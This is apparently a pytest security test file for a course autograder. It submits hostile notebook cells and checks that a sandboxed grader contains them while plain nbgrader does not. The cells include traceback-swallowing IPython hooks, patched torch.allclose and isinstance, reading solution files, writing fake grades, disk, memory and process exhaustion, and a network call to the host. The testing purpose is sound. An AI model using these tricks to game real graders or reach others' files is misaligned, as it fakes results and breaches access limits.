"""Submissions written to game or harm the grader, graded beside an honest student.

Each attack is a learner-added cell (or stub) in lab 01's release, at the smoke profile.
Graded by `course grade` (kernels in the sandbox, integrity checks), none earns a point it
did not, reads or writes what is not its own, or outlives its grading, and the honest
student is graded in full. The controls grade the same attacks with plain `nbgrader
autograde`, the grader this course used before: there they succeed, which is what makes
each test here able to fail.
"""

from __future__ import annotations

import http.server
import os
import secrets
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from course.machinery import grading, sandbox
from course.machinery.labs import BY_ID
from course.paths import ROOT
from tests.support import set_profile, submit

pytestmark = pytest.mark.grading
LAB = BY_ID["01-pytorch-fundamentals"]
NONCE = secrets.token_hex(4)
PROBE_FILE = f"/tmp/attack-{NONCE}.bin"  # noqa: S108 (must not appear on the host)

ZEROS_PAIRWISE = "def pairwise_sq_dists(A, B):\n    return torch.zeros(A.shape[0], B.shape[0], dtype=A.dtype)\n"
ATTACKS = {
    "swallow-errors": "get_ipython()._showtraceback = lambda *args, **kwargs: None",
    "swallow-transformer": (
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: ['try:\\n'] + ['    ' + line for line in lines]\n"
        "                  + ['\\nexcept BaseException:\\n    pass\\n'])"
    ),
    "swallow-ast": (
        "import ast\n\n\nclass Swallow(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
        "        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])\n"
        "        return ast.fix_missing_locations(ast.Module(body=[ast.Try(body=node.body, handlers=[handler],\n"
        "                                                   orelse=[], finalbody=[])], type_ignores=[]))\n\n\n"
        "get_ipython().ast_transformers.append(Swallow())"
    ),
    "hide-tracebacks": "get_ipython().showtraceback = lambda *args, **kwargs: None",
    "obfuscated": "getattr(__builtins__, 'ev' + 'al')('get_' + 'ipython().showtraceback = lambda *a, **k: None')",
    "monkeypatch": "torch.allclose = lambda *args, **kwargs: True",
    "builtins": "import builtins\nbuiltins.isinstance = lambda *args: True",
    "redefined-helper": "def make_regression_data(*args, **kwargs):\n    return None",
    "early-exit": "import os\nos._exit(0)",
    "read-others": (
        "import glob\nfor pattern in ['/work/main/solutions/*/*.ipynb', '/work/main/grading/submitted/*/*/*.ipynb',\n"
        "                '../../../../solutions/*/*.ipynb', '../../../submitted/*/*/*.ipynb']:\n"
        "    for path in glob.glob(pattern):\n        print(path, open(path).read()[:20000])"
    ),
    "write-grading": (
        "from pathlib import Path\nimport course\n"
        "targets = [Path('/work/main/grading/gradebook.db'), Path('/work/main/grading/grades.csv'),\n"
        "           Path(course.__file__).parent / 'attack-probe.txt', Path.cwd().parents[2] / 'grades.csv']\n"
        "for target in targets:\n    try:\n        with open(target, 'a') as fh:\n"
        "            fh.write('attacker,01,999')\n"
        "        print('wrote', target)\n    except OSError as exc:\n        print('refused', target, exc)"
    ),
    "disk": (f"with open({PROBE_FILE!r}, 'wb') as fh:\n    for _ in range(48):\n        fh.write(b'0' * (64 * 2**20))"),
    "memory": "hog = bytearray(6 * 2**30)",
    "processes": (
        "import subprocess\nchildren = []\nfor _ in range(3000):\n"
        "    children.append(subprocess.Popen(['sleep', '600'], start_new_session=True))"
    ),
    "network": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/stolen', timeout=3).read()",
}


class Listener(http.server.BaseHTTPRequestHandler):
    """A server on the host's loopback: a sandboxed kernel has a loopback of its own and cannot reach it."""

    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (the handler's protocol)
        Listener.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"secret")

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def listener():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def attack_notebook(name: str, port: int) -> nbformat.NotebookNode:
    nb = nbformat.read(LAB.release_notebooks()[0], as_version=4)
    set_profile(nb, "smoke")
    if name in ("monkeypatch", "builtins"):
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "ex-pairwise":
                cell.source = ZEROS_PAIRWISE
    after_setup = next(
        i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup-02"
    )
    nb.cells.insert(after_setup + 1, nbformat.v4.new_code_cell(ATTACKS[name].replace("{port}", str(port))))
    return nb


def _submit(root: Path, student: str, nb: nbformat.NotebookNode) -> None:
    dest = root / grading.SUBMITTED / student / LAB.id
    dest.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, dest / LAB.release_notebooks()[0].name)


def _sleepers() -> list[str]:
    found = subprocess.run(["pgrep", "-f", "sleep 600"], capture_output=True, text=True)
    return found.stdout.split()


@pytest.fixture(scope="module")
def attacked(course_copy, listener):
    reason = sandbox.unavailable_reason()
    if reason:
        if os.environ.get("CI"):
            pytest.fail(f"CI must test the sandbox, and it is unavailable: {reason}")
        pytest.skip(f"no sandbox on this machine ({reason}); .ci/run installs bubblewrap")
    if not (course_copy / "labs" / LAB.id).exists():
        grading.build([LAB], course_copy)
    Listener.hits.clear()
    for name in ATTACKS:
        _submit(course_copy, f"attack-{name}", attack_notebook(name, listener))
    submit(LAB.solution_notebooks(), course_copy / grading.SUBMITTED / "honest" / LAB.id, profile="smoke")
    students = [*(f"attack-{name}" for name in ATTACKS), "honest"]
    options = grading.Options(workers=2, timeout=150, cell_timeout=60, feedback=True)
    graded = grading.grade(course_copy, [LAB], students, options, rebuild=False)
    yield {o.student.removeprefix("attack-"): o for o in graded}
    (ROOT / "course" / "attack-probe.txt").unlink(missing_ok=True)  # only there if the sandbox failed


SWALLOWING = ["swallow-errors", "swallow-transformer", "swallow-ast", "hide-tracebacks", "obfuscated"]
TAMPERING = ["monkeypatch", "builtins", "redefined-helper", *SWALLOWING]


@pytest.mark.parametrize("name", TAMPERING)
def test_tampering_earns_nothing_and_is_flagged_for_review(attacked, name):
    outcome = attacked[name]
    assert outcome.status == "review", (outcome.status, outcome.problems)  # even when it also ran out of time
    assert outcome.auto_score == 0, f"{name} kept {outcome.auto_score} automatic points"
    assert any("flagged for review" in p for p in outcome.problems), outcome.problems


def test_an_early_exit_scores_only_what_ran_before_it(attacked):
    outcome = attacked["early-exit"]
    assert outcome.auto_score == 0 and any("stopped" in p for p in outcome.problems), outcome.problems


def test_solutions_and_classmates_are_out_of_reach(attacked, course_copy):
    executed = (course_copy / "grading" / "autograded" / "attack-read-others" / LAB.id).glob("*.ipynb")
    text = "".join(path.read_text() for path in executed)
    assert "BEGIN SOLUTION" not in text, "a solution or a classmate's submission leaked into the kernel's output"


def test_the_gradebook_grades_and_the_course_package_are_not_writable(attacked, course_copy):
    outcomes = attacked
    assert outcomes["write-grading"].auto_score == 0
    assert not (ROOT / "course" / "attack-probe.txt").exists(), "the kernel wrote into the course package"
    assert "attacker" not in (course_copy / "grading" / "grades.csv").read_text()
    executed = next((course_copy / "grading" / "autograded" / "attack-write-grading" / LAB.id).glob("*.ipynb"))
    assert "wrote " not in executed.read_text(), "the kernel wrote outside its sandbox"


def test_disk_memory_and_processes_are_limited_and_nothing_outlives_grading(attacked):
    outcomes = attacked
    assert not Path(PROBE_FILE).exists(), "a file written by a kernel is left on the host"
    memory = outcomes["memory"]
    assert any("memory" in p for p in memory.problems), memory.problems
    assert outcomes["processes"].auto_score == 0
    assert not _sleepers(), "processes a kernel started outlive its grading"


def test_the_network_beyond_the_sandbox_is_unreachable(attacked):
    assert not Listener.hits, f"a sandboxed kernel reached the host: {Listener.hits}"


def test_the_honest_student_is_graded_in_full_beside_them(attacked):
    honest = attacked["honest"]
    assert honest.status == "graded" and honest.auto_score == honest.auto_max > 0, honest.problems


# --- the controls: the same attacks under plain nbgrader --------------------------------------


# nbgrader 0.9.6 already catches an error hidden from the outputs (it reads the kernel's reply), so the
# controls are the attacks it does not catch.
CONTROLS = ["swallow-transformer", "swallow-ast", "monkeypatch", "read-others", "network"]


def _plain_nbgrader(root: Path, student: str) -> str:
    code = (
        "import sys; from pathlib import Path; from course.machinery import autograde;"
        "api = autograde._api(Path(sys.argv[1]), 60);"
        "print(api.autograde(sys.argv[2], sys.argv[3], force=True, create=True)['success'])"
    )
    done = subprocess.run([sys.executable, "-c", code, str(root), LAB.id, student], capture_output=True, text=True)
    return done.stdout + done.stderr


@pytest.fixture(scope="module")
def controls(course_copy, listener, attacked):
    Listener.hits.clear()
    scores = {}
    for name in CONTROLS:
        student = f"control-{name}"
        _submit(course_copy, student, attack_notebook(name, listener))
        _plain_nbgrader(course_copy, student)
        scores[name] = grading._scores(course_copy, LAB.id, student)[2]
    return scores


def test_under_plain_nbgrader_the_attacks_succeed(controls, course_copy):
    """If these did not succeed there, the tests above would prove nothing."""
    for name in ("swallow-transformer", "swallow-ast"):
        assert sum(s for s, _ in controls[name].values()) > 10, (name, controls[name])
    assert controls["monkeypatch"]["test-pairwise"][0] == 2, controls["monkeypatch"]
    leaked = next((course_copy / "grading" / "autograded" / "control-read-others" / LAB.id).glob("*.ipynb"))
    assert "BEGIN SOLUTION" in leaked.read_text(), "plain nbgrader let the kernel read the solutions"
    assert Listener.hits == ["/stolen"], "plain nbgrader let the kernel reach the host's network"
